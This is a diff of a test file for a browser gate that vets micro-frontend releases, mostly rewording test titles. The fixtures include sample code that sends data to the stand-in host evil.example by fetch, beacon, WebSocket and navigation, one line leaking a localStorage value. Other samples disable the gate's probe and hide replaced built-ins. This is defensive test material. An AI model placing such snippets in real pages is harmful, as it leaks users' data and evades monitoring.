@@ -1,11 +1,11 @@
-/** What the browser gate refuses on a page. */
+/** Tests the faults of a page that the browser gate refuses. */
 import http from 'node:http';
 import { ROUNDS } from '@platform/gate';
 import { GateFixture, listen, remote } from './testing/gate-fixture';
 
 const shop = GateFixture.install();
 
-it('passes a release whose routes all work', async () => {
+it('the gate passes a release whose routes all work', async () => {
   const good = `self.mfe_page = (node) => {
     self.user().then(({ data }) => { node.append(data ? 'Hello' : 'Sign in'); });
     localStorage.setItem('catalog.seen', '1');
@@ -14,23 +14,23 @@ it('passes a release whose routes all work', async () => {
   expect(await shop.judge(remote(good), shop.step({ rounds: ROUNDS }))).toBe('live');
 });
 
-it('refuses a release that throws at render, though the release before would hide it', async () => {
+it('the gate refuses a release that throws at render, although its fallback would hide it', async () => {
   expect(await shop.judge(remote('self.mfe_page = () => { throw new Error("boom"); }'))).toEqual({
     browser: expect.stringMatching(/^\/home( \(.+\))?: an error card$/),
   });
 });
 
-// All kinds of empty pages: page-emptiness.test.ts.
-it('refuses a page that is covered', async () => {
+// page-emptiness.test.ts tests all kinds of empty pages.
+it('the gate refuses a covered page', async () => {
   const code = `const cover = node.appendChild(document.createElement('div')); cover.className = 'cover'`;
   const css = '[data-remote="catalog"] .cover{position:fixed;inset:0;background:#fff}';
   expect(await shop.judge(remote(`self.mfe_page = (node) => { ${code} };`, css))).toEqual({
-    // On a busy machine not each visit comes so far.
+    // On a busy machine some visits end earlier.
     browser: expect.stringMatching(/^\/home( \(.+\))?: the page is covered by div\.cover$/),
   });
 });
 
-it('refuses errors, rejected promises and violations of the policy, each with its place', async () => {
+it('the gate refuses errors, rejected promises and policy violations, each with its position', async () => {
   const bad = `self.mfe_page = (node) => {
     setTimeout(() => { throw new Error('in a timer'); });
     setTimeout(() => Promise.reject(new Error('in a promise')));
@@ -44,13 +44,13 @@ it('refuses errors, rejected promises and violations of the policy, each with it
   expect(browser).toMatch(/\/home: policy: style-src-attr inline at remoteEntry\.js:5/);
 });
 
-it('refuses a second copy of a singleton', async () => {
+it('the gate refuses a second copy of a singleton', async () => {
   const bad =
     'self.mfe_page = () => { self.__FEDERATION__ = { __SHARE__: { a: { default: { react: { "19.3.1": { from: "shell", loaded: true }, "19.4.0": { from: "catalog", loaded: true } } } } } }; }';
   expect(await shop.judge(remote(bad))).toEqual({ browser: expect.stringMatching(/a second copy of react/) });
 });
 
-it('refuses a release that fails for signed-in shoppers only, and one that fails in one language only', async () => {
+it('the gate refuses a release that fails for signed-in shoppers only, and one that fails in one language only', async () => {
   const onlyForMembers = `self.mfe_page = () => self.user().then(({ data }) => { if (data) throw new Error('for ' + data.nickname); })`;
   expect(await shop.judge(remote(onlyForMembers), await shop.strictStep())).toEqual({
     browser: expect.stringMatching(/^\/home \(signed in\): error: for Ann of the gate at remoteEntry\.js:1:\d+$/),
@@ -61,7 +61,7 @@ it('refuses a release that fails for signed-in shoppers only, and one that fails
   });
 });
 
-it('refuses a page that is not ready, moves its content, or keeps people out', async () => {
+it('the gate refuses a page that is not ready, moves its content, or is not accessible', async () => {
   const bad = `
     self.mfe_page = (node) => {
       const button = node.appendChild(document.createElement('button'));
@@ -79,7 +79,7 @@ it('refuses a page that is not ready, moves its content, or keeps people out', a
   });
 });
 
-it('refuses a page whose script never ends, and comes to an end itself', async () => {
+it('the gate refuses a page whose script never ends, and itself ends', async () => {
   const step = shop.step({ visitMs: 5_000 });
   expect(await shop.judge(remote('self.mfe_page = () => { for (;;); }'), step)).toEqual({
     ready: expect.stringContaining('its visit did not end within 5 s'),
@@ -105,15 +105,15 @@ const tricks = [
   ['Array.from([self], (all) => { all.trustedTypes.createPolicy = () => {}; })', 'trustedTypes.createPolicy'],
 ];
 
-it('refuses what is replaced by a way that does not name it', async () => {
+it('the gate refuses replaced built-ins that the release reaches without their names', async () => {
   const code = tricks.map(([trick]) => `${trick};`).join('\n');
   const { isolation } = (await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>;
   for (const [, name] of tricks) expect(isolation).toContain(`it changes ${name}`);
 });
 
-it('refuses a release that hides from the probe what it has replaced', async () => {
+it('the gate refuses a release that hides its replacements from the probe', async () => {
   const code = `const all = self;
-    const probe = all[Symbol.for('shop.gate')];
+    const probe = all[Symbol.for('release.gate')];
     try { probe.report = () => ({}); } catch {}
     const { getOwnPropertyNames, getOwnPropertyDescriptor } = Object;
     Object.assign(Object, { getOwnPropertyNames: () => [], getOwnPropertyDescriptor: () => undefined });
@@ -122,11 +122,11 @@ it('refuses a release that hides from the probe what it has replaced', async () 
   expect(found.isolation).toContain('it changes fetch');
 });
 
-describe('refuses what leaves for another origin:', () => {
+describe('other origins', () => {
   const faultsOf = async (code: string) =>
     ((await shop.judge(remote(`self.mfe_page = (node) => { ${code} }`))) as Record<string, string>).browser;
 
-  it('requests', async () => {
+  it('the gate refuses requests to another origin', async () => {
     const found = await faultsOf(`
       new Image().src = 'https://evil.example/a';
       fetch('https://evil.example/b').catch(() => {});
@@ -135,7 +135,7 @@ describe('refuses what leaves for another origin:', () => {
       expect(found).toContain(`policy: ${directive} https://evil.example`);
   });
 
-  it('forms, sockets and beacons', async () => {
+  it('the gate refuses forms, sockets and beacons to another origin', async () => {
     const found = await faultsOf(`
       navigator.sendBeacon('https://evil.example/d', 'x');
       try { new WebSocket('wss://evil.example/e'); } catch {}
@@ -146,7 +146,7 @@ describe('refuses what leaves for another origin:', () => {
       expect(found).toContain(`policy: ${what}`);
   });
 
-  it('hints to the browser, which no policy holds', async () => {
+  it('the gate refuses hints to the browser about another origin, which no policy blocks', async () => {
     const found = await faultsOf(`
       document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://evil.example' }));
       node.append(Object.assign(document.createElement('a'), { href: '/x', ping: 'https://evil.example/g', textContent: 'a' }));`);
@@ -154,7 +154,7 @@ describe('refuses what leaves for another origin:', () => {
     expect(found).toContain('names another origin: <a ping>');
   });
 
-  it('navigations and windows, which no policy holds', async () => {
+  it('the gate refuses navigations and windows to another origin, which no policy blocks', async () => {
     expect(await faultsOf(`location.href = 'https://evil.example/?' + localStorage.language;`)).toContain(
       'asks another origin (document): https://evil.example',
     );
@@ -176,7 +176,7 @@ describe('refuses what leaves for another origin:', () => {
   });
 });
 
-it('lets a page show pictures of an origin that the running shop lists', async () => {
+it('the gate lets a page show pictures of an origin that the running shop allows', async () => {
   shop.policy =
     "default-src 'none'; img-src 'self' https://pictures.example; media-src 'self' https://pictures.example";
   try {
@@ -190,7 +190,7 @@ it('lets a page show pictures of an origin that the running shop lists', async (
   }
 });
 
-it('refuses globals, patches, storage keys and styles that reach beyond its own pages', async () => {
+it('the gate refuses globals, patches, storage keys and styles with effects outside the release’s pages', async () => {
   const bad = `self.leaked = 1;
     self.mfe_page = () => {
       const { fetch } = self;
